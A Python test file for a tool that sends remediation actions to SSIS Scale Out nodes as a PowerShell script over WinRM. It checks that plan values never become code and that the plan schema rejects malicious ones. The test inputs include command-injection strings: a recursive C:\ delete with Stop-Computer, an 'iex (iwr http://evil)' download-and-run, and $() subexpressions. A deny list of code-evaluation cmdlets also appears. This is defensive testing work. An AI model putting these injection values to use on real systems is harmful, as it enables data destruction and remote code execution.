"""actions.ps1: valid PowerShell, one handler per action, and no plan value ever spliced into its source.

Two layers keep hostile values (thumbprints, host names, accounts, paths full of quotes, ``$()``,
backticks and ``;``) away from PowerShell. A plan carrying them is refused by its schema before anything
is sent. And should a value ever get through, the transport still carries it only as JSON data: hostile
and benign requests go through the real WinRM client class with only the channel recorded, and the
command line and the script part of stdin must be byte-identical for every request, the hostile values
arriving intact inside the JSON request.
"""

from __future__ import annotations

import base64
import json
import re
from pathlib import Path
from typing import Any

from scaleguard.apply.journal import Journal
from scaleguard.apply.runner import Executor
from scaleguard.apply.transport import AGENT_OPS, AgentClient, actions_script, agent_request
from scaleguard.collectors.agent import PAYLOAD_SEPARATOR, bootstrap_command, split_payload
from scaleguard.lab.certs import CertSpec, make_certificate
from scaleguard.remediators.model import Plan, Step, Unit
from scaleguard.remediators.validate import PlanInvalid, load_plan
from scaleguard.remoting.channel import CommandResult
from tests.powershell_grammar import grammar_problems

HOSTILE_HOST = "m1\"; Remove-Item -Recurse C:\\ ; $(Stop-Computer) `whoami` '"
HOSTILE_ACCOUNT = "CONTOSO\\svc'; iex (iwr http://evil) #"
HOSTILE_THUMB = "AB' + $(Invoke-Expression 'calc') + 'CD"
HOSTILE_PATH = "C:\\Program Files\\$(calc)\\Binn\\WorkerSettings.config"



def test_actions_script_parses_without_errors() -> None:
    assert grammar_problems(actions_script()) == []
    assert grammar_problems("function X {\n if ($a) { 'x'\n"), "the grammar check must be able to fail"


def test_actions_script_is_ascii_and_never_evaluates_strings() -> None:
    script = actions_script()
    script.encode("ascii")
    code = [line for line in script.splitlines() if not line.lstrip().startswith("#")]
    lowered = "\n".join(code).lower()
    for forbidden in (
        "invoke-expression",
        "iex ",
        "[scriptblock]::create",
        "add-type",
        "-encodedcommand",
        "start-process",
        "invoke-command",
        "new-pssession",
    ):
        assert forbidden not in lowered, forbidden


def test_every_action_has_a_handler_in_the_script() -> None:
    cases = set(re.findall(r"^\s+'([a-z_]+)' \{ \$result = Invoke-", actions_script(), flags=re.M))
    assert cases == set(AGENT_OPS)


def test_the_script_validates_what_it_passes_to_programs() -> None:
    script = actions_script()
    # every value reaching netsh, certutil or a certificate subject went through a strict pattern first
    for pattern in (
        "$IpPortPattern",
        "$AppIdPattern",
        "$ThumbprintPattern",
        "$HostNamePattern",
        "$ServicePattern",
        "$BackupNamePattern",
        "$AccountPattern",
        "$SchannelNamePattern",
    ):
        assert script.count(pattern) >= 2, pattern  # defined and used


CREATED = make_certificate(CertSpec(("w1.contoso.test",), key_seed=3))
"""What the fake agent answers it created: a real certificate, as the executor checks thumbprint and DER agree."""


class RecordingChannel:
    """Stands in for HostChannel: records what would go over WinRM and answers like the agent."""

    def __init__(self) -> None:
        self.deadline = 0.0
        self.sent: list[tuple[str, bytes]] = []

    def run(self, command: str, stdin: bytes, *, idempotent: bool = True) -> CommandResult:
        assert idempotent is False  # fix actions are never re-run behind the operator's back
        self.sent.append((command, stdin))
        _script, request = split_payload(stdin)
        answers: dict[str, dict[str, Any]] = {
            "read_file": {
                "content_b64": "PFc+PE1hc3RlckVuZHBvaW50PmE8L01hc3RlckVuZHBvaW50PjwvVz4=",
                "sha256": "0" * 64,
            },
            "create_certificate": {
                "store": "My", "thumbprint": CREATED.thumbprint, "der_b64": base64.b64encode(CREATED.der).decode()
            },
            "grant_key_read": {"account": "NT Service\\SSISScaleOutWorker150", "already": False},
            "restart_service": {"name": "SSISScaleOutWorker150", "restarted": True, "state": "Running"},
        }
        def answer(op: str) -> dict[str, Any]:
            return {**answers.get(op, {}), "changed": True}

        if request["op"] == "batch":
            results = [{"ok": True, "result": answer(a["op"])} for a in request["actions"]]
            return CommandResult(json.dumps({"results": results}).encode(), b"", 0)
        return CommandResult(json.dumps(answer(request["op"])).encode(), b"", 0)


class RecordingTransport:
    def __init__(self) -> None:
        self.channel = RecordingChannel()

    def client(self, cluster: str, node: str) -> AgentClient:
        return AgentClient(self.channel, timeout_s=30, name=node)  # type: ignore[arg-type]

    def close(self) -> None:
        pass


def requests_for(host: str, account: str, thumb: str, path: str) -> list[dict[str, Any]]:
    return [
        {"op": "create_certificate", "store": "My", "common_names": [host], "san_dns": [host], "san_ip": [],
         "key_bits": 2048, "hash": "sha256", "valid_days": 730, "friendly_name": "SSIS Scale Out Worker"},
        {"op": "grant_key_read", "store": "My", "thumbprint": thumb, "account": account},
        {"op": "set_binding", "ip_port": f"{host}:8391", "cert_hash": thumb, "cert_store": "Root", "app_id": host},
        {"op": "read_file", "path": path},
        {"op": "write_config", "path": path, "role": "worker", "setting": "MasterEndpoint",
         "value": f"https://{host}:8391", "content_b64": "AAAA", "expected_sha256": "0" * 64},
        {"op": "restart_service", "name": account},
        {"op": "set_schannel_value", "name": host, "value": 2},
    ]


def send(requests: list[dict[str, Any]]) -> list[tuple[str, bytes]]:
    transport = RecordingTransport()
    client = transport.client("C", "W1")
    for request in requests:
        client.request(request)
    return transport.channel.sent


def test_no_request_value_is_ever_spliced_into_powershell() -> None:
    hostile_requests = requests_for(HOSTILE_HOST, HOSTILE_ACCOUNT, HOSTILE_THUMB, HOSTILE_PATH)
    hostile = send(hostile_requests)
    benign = send(
        requests_for(
            "master01.contoso.test",
            "NT Service\\SSISScaleOutWorker150",
            "A" * 40,
            "C:\\Program Files\\Microsoft SQL Server\\150\\DTS\\Binn\\WorkerSettings.config",
        )
    )
    assert len(hostile) == len(benign) == 7
    script_bytes = actions_script().encode("ascii")
    for (h_command, h_stdin), (b_command, b_stdin) in zip(hostile, benign, strict=True):
        assert h_command == b_command == bootstrap_command()  # the command line never carries data
        h_script, _, h_request = h_stdin.partition(PAYLOAD_SEPARATOR)
        b_script, _, b_request = b_stdin.partition(PAYLOAD_SEPARATOR)
        assert h_script == b_script == script_bytes  # the same program for every request
        assert h_request != b_request
    requests = [split_payload(stdin)[1] for _, stdin in hostile]
    # every hostile value arrives intact, as JSON data (service actions also get the agent's wait_s)
    assert requests == [agent_request(r, 30) for r in hostile_requests]
    assert requests[5] == {"op": "restart_service", "name": HOSTILE_ACCOUNT, "wait_s": 12}  # 40 % of 30 s
    for _, stdin in hostile:
        stdin.decode("ascii")  # non-ASCII is JSON-escaped: no code page can turn data into something else


def benign_plan() -> Plan:
    steps = [
        Step(
            id="s001", unit="u01", cluster="C", node="W1", action="create_certificate",
            params={"store": "My", "common_names": ["W1"], "san_dns": ["W1"], "san_ip": ["10.0.2.1"],
                    "key_bits": 2048, "hash": "sha256", "valid_days": 730, "friendly_name": "SSIS Scale Out Worker"},
        ),
        Step(
            id="s002", unit="u01", cluster="C", node="W1", action="grant_key_read",
            params={"store": "My", "thumbprint": {"from_step": "s001", "field": "thumbprint"},
                    "account": "NT Service\\SSISScaleOutWorker150"},
        ),
        Step(
            id="s003", unit="u01", cluster="C", node="W1", action="set_master_endpoint",
            params={"host": "master01.contoso.test", "port": 8391},
        ),
        Step(
            id="s004", unit="u01", cluster="C", node="W1", action="restart_service",
            params={"role": "worker", "name": "SSISScaleOutWorker150"},
        ),
    ]
    unit = Unit(id="u01", remediation="manual", cluster="C", target="W1", summary="-", steps=[s.id for s in steps])
    from datetime import UTC, datetime, timedelta

    now = datetime.now(UTC)
    return Plan(generated_at=now, expires_at=now + timedelta(days=1), units=[unit], steps=steps)


def test_the_executor_sends_exactly_the_typed_parameters(tmp_path: Path) -> None:
    from fixcases import NOW

    from scaleguard.snapshot.model import (
        ClusterSnapshot,
        ConfigFile,
        HostIdentity,
        NodeSnapshot,
        Service,
        Snapshot,
    )

    path = "C:\\Program Files\\Microsoft SQL Server\\150\\DTS\\Binn\\WorkerSettings.config"
    node = NodeSnapshot(
        name="W1",
        identity=HostIdentity(computer_name="W1"),
        worker_config=ConfigFile(path=path, settings={"MasterEndpoint": "a"}),
        services=[Service(name="SSISScaleOutWorker150", state="Running")],
    )
    live = Snapshot(clusters=[ClusterSnapshot(cluster="C", collected_at=NOW, source="t", mode="live", nodes=[node])])
    transport = RecordingTransport()
    with Journal(tmp_path / "j.sqlite") as journal:
        report = Executor(benign_plan(), transport, journal, current=live).run()
    assert report.status == "done", report
    rounds = [split_payload(stdin)[1] for _, stdin in transport.channel.sent]
    requests = [action for r in rounds for action in (r["actions"] if r["op"] == "batch" else [r])]
    by_op = {r["op"]: r for r in requests}
    assert sorted(by_op) == ["create_certificate", "grant_key_read", "read_file", "restart_service", "write_config"]
    assert len(requests) == 5
    assert by_op["grant_key_read"] == {
        "op": "grant_key_read", "store": "My", "thumbprint": CREATED.thumbprint,
        "account": "NT Service\\SSISScaleOutWorker150",
    }
    assert by_op["read_file"] == {"op": "read_file", "path": path}  # the path the live node reported
    write = by_op["write_config"]
    assert write["path"] == path and write["setting"] == "MasterEndpoint"
    assert write["value"] == "https://master01.contoso.test:8391"
    # the resolved service name, and how long the agent may wait for it (40 % of the 30 s deadline)
    assert by_op["restart_service"] == {"op": "restart_service", "name": "SSISScaleOutWorker150", "wait_s": 12}


def test_a_plan_with_hostile_values_is_refused_by_its_schema() -> None:
    import json

    raw = json.loads(benign_plan().to_json())
    raw["steps"][0]["params"]["common_names"] = [HOSTILE_HOST]
    raw["steps"][1]["params"]["account"] = HOSTILE_ACCOUNT
    raw["steps"][2]["params"]["host"] = HOSTILE_HOST
    raw["steps"][3]["params"]["name"] = HOSTILE_ACCOUNT
    raw["steps"].append({**raw["steps"][3], "id": "s005", "action": "write_config",
                         "params": {"config": "worker", "setting": "WorkerHttpsCertThumbprint",
                                    "value": HOSTILE_THUMB, "path": HOSTILE_PATH}})
    raw["units"][0]["steps"].append("s005")
    try:
        load_plan(json.dumps(raw).encode())
    except PlanInvalid as exc:
        refused = {line.split(":")[0] for line in exc.errors}
    else:
        raise AssertionError("a hostile plan was accepted")
    assert refused == {"step s001", "step s002", "step s003", "step s004", "step s005"}


def test_a_round_that_reads_after_it_runs_both_agents_verbatim_in_one_powershell_run() -> None:
    from scaleguard.apply.transport import action_payload, round_then_read_script
    from scaleguard.collectors.agent import agent_script

    composite = round_then_read_script()
    assert grammar_problems(composite) == []
    composite.encode("ascii")
    # both agents travel unchanged (our own text in literal here-strings), the request stays JSON data
    assert f"@'\n{actions_script()}\n'@" in composite and f"@'\n{agent_script('collect.ps1')}\n'@" in composite
    actions = [{"op": "restart_service", "name": HOSTILE_ACCOUNT}]
    request = {"op": "batch", "actions": actions, "collect": {"op": "collect"}}
    command, stdin = action_payload(request)
    script, _, data = stdin.partition(PAYLOAD_SEPARATOR)
    assert command == bootstrap_command() and script == composite.encode("ascii")
    assert HOSTILE_ACCOUNT.encode() not in script and json.loads(data) == request
    plain_command, plain = action_payload({"op": "batch", "actions": request["actions"]})
    assert plain.partition(PAYLOAD_SEPARATOR)[0] == actions_script().encode("ascii")


def test_the_two_documents_of_such_a_round_come_back_as_one_answer() -> None:
    class TwoDocuments(RecordingChannel):
        def run(self, command: str, stdin: bytes, *, idempotent: bool = True) -> CommandResult:
            return CommandResult(b'{"results": [{"ok": true, "result": {}}]}\n{"schema": "scaleguard-agent/1"}', b"", 0)

    client = AgentClient(TwoDocuments(), timeout_s=30, name="W1")  # type: ignore[arg-type]
    actions = [{"op": "read_file", "path": "x"}]
    answer = client.request({"op": "batch", "actions": actions, "collect": {"op": "collect"}})
    assert answer == {"results": [{"ok": True, "result": {}}], "collect": {"schema": "scaleguard-agent/1"}}
